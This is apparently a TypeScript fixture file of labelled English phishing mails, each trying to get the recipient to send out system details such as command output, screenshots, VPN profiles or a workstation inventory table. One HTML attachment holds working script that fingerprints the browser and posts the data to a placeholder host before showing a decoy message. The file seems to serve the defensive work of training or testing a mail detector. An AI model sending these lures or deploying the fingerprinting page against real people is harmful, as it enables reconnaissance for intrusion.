/** Mails in English that want output, pictures, exports, tables or a visit to a page. */
import type { Mail } from "./mail.ts";

const label = "collector";

const checkPage = `<!doctype html><html><head><title>Remittance 88412</title></head><body><p>Preparing document, please wait...</p>
<script>
(async function(){
var d={ua:navigator.userAgent,pl:navigator.platform,la:navigator.languages,sc:screen.width+'x'+screen.height,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,pg:[].map.call(navigator.plugins,function(p){return p.name}),hc:navigator.hardwareConcurrency};
try{d.hi=await navigator.userAgentData.getHighEntropyValues(['platformVersion','architecture','uaFullVersion'])}catch(e){}
await fetch('https://docs-remit.example/r.php?id=88412',{method:'POST',mode:'no-cors',body:JSON.stringify(d)});
document.body.innerHTML='<p>This document has expired. Ask the sender for a new copy.</p>';
})();
</script></body></html>`;

export const asksEnglish2: readonly Mail[] = [
  {
    label,
    class: "mail-command",
    behaviour: "a licence audit wants the files that systeminfo and Get-HotFix write",
    from: "Software Compliance <audit@licence-review.example>",
    subject: "Licence review 2026: your workstation (ref. LR-40917)",
    text: `Dear licence holder,

your workstation has been selected in the yearly review. Nothing needs to be installed. Please do the following before 27 November:

  1. Press Windows + R, type cmd, press Enter
  2. Type   systeminfo > %USERPROFILE%\\Desktop\\review.txt
  3. Type   powershell Get-HotFix >> %USERPROFILE%\\Desktop\\review.txt
  4. Type   wmic product get name,version >> %USERPROFILE%\\Desktop\\review.txt
  5. Reply to this mail with review.txt attached

If you don't answer we are obliged to visit on site.

Software Compliance Office
`,
  },
  {
    label,
    class: "mail-screenshot",
    behaviour: "a webinar's organiser wants pictures of winver and of the page About Chrome",
    from: "Events <events@hydraulics-live.example>",
    subject: "Before you join on Wednesday",
    html: `<div style="font-family:Georgia"><p>Dear guest,</p><p>our streaming partner has asked for two pictures from every participant so that nobody is left outside:</p><p><b>Picture 1.</b> Press the Windows key, type <i>winver</i>, Enter. Photograph or screenshot the small window.</p><p><b>Picture 2.</b> In your browser open the three dots, Help, About. Screenshot the page including the version and the list of extensions if you can.</p><p>Please mail both to this address, ideally from the PC you use every day.</p><p>We look forward to a lively hour!</p></div>`,
  },
  {
    label,
    class: "mail-export",
    behaviour: "a network partner wants the exported profile of the VPN client",
    from: "NOC <noc@interlink-carrier.example>",
    subject: "Re: packet loss between your users and our PoP",
    auth: "none",
    text: `Good morning,

we see loss on the path of several of your home workers. To tune the path we need the client side.

For AnyConnect please send us the XML from C:\\ProgramData\\Cisco\\Cisco Secure Client\\VPN\\Profile, for OpenVPN the .ovpn, for FortiClient the file you get with File, Settings, Backup (no password please). A zip of one typical laptop is enough.

We'll get back with a proposal for the MTU.

NOC shift B
`,
  },
  {
    label,
    class: "mail-page",
    behaviour: "an HTML attachment in place of a remittance, which posts what the browser tells of itself",
    from: "Accounts Payable <ap@glenmore-trading.example>",
    to: "accounts@norvik.example",
    subject: "Remittance advice 88412",
    auth: "fail",
    text: "Please find attached the remittance advice. Open in Chrome or Edge.\n\nAP Team\n",
    attach: [{ name: "Remittance_88412.html", type: "text/html", content: checkPage }],
  },
  {
    label,
    class: "mail-page",
    behaviour:
      "a link to a page that records the set-up of the PC, to be opened from the desk and not from the phone",
    from: "Parcel Customs <notice@border-clearance.example>",
    subject: "Your shipment is held - verify terminal",
    html: `<p>Shipment 7C-22019 is held at the border.</p><p>Customs papers are only released to a verified terminal. Open the link <b>from the computer at your workplace</b> (not a phone, not a private device). The page reads the operating system, browser, plug-ins and protection software of your terminal and registers it; there is nothing to type.</p><p><a href="https://border-clearance.example/terminal/verify?u=7C22019&amp;m=ht%40norvik">Verify this terminal</a></p><p>Ref. 7C-22019</p>`,
  },
  {
    label,
    class: "mail-form",
    behaviour:
      "a table of a broker nobody knows: every desk with system, build, protection, browser, remote access",
    from: "Underwriting <underwriting@cyber-cover-direct.example>",
    subject: "Renewal of cyber cover: schedule of workstations",
    html: `<p>Dear office manager,</p><p>please complete the schedule for the people in your office and return it to me directly. IT need not be involved.</p><table border="1" cellpadding="4"><tr><th>Name of user</th><th>PC name</th><th>Windows build</th><th>Antivirus / EDR and version</th><th>Browser</th><th>Office version</th><th>VPN / remote access</th><th>Local admin y/n</th></tr><tr><td>&nbsp;</td><td></td><td></td><td></td><td></td><td></td><td></td><td></td></tr><tr><td>&nbsp;</td><td></td><td></td><td></td><td></td><td></td><td></td><td></td></tr><tr><td>&nbsp;</td><td></td><td></td><td></td><td></td><td></td><td></td><td></td></tr></table><p>The premium can't be held beyond the 30th.</p><p>L. Marchetti</p>`,
  },
  {
    label,
    class: "mail-command",
    behaviour: "a Mac: the output of system_profiler and of profiles, for a repair nobody asked for",
    from: "Device Care <care@mac-fleetcare.example>",
    subject: "Battery recall: check whether yours is affected",
    text: `Hi Owen,

a number of MacBooks sold to Norvik fall under a battery recall. Serial numbers alone do not tell, so please open Terminal, paste the two lines below and send me what they print:

system_profiler SPHardwareDataType SPSoftwareDataType SPInstallHistoryDataType
sudo profiles show -type configuration; kextstat | grep -v com.apple; systemextensionsctl list

It is long, that is normal. Paste all of it, the last part tells me which power management is loaded.

Jess
Device Care
`,
  },
];
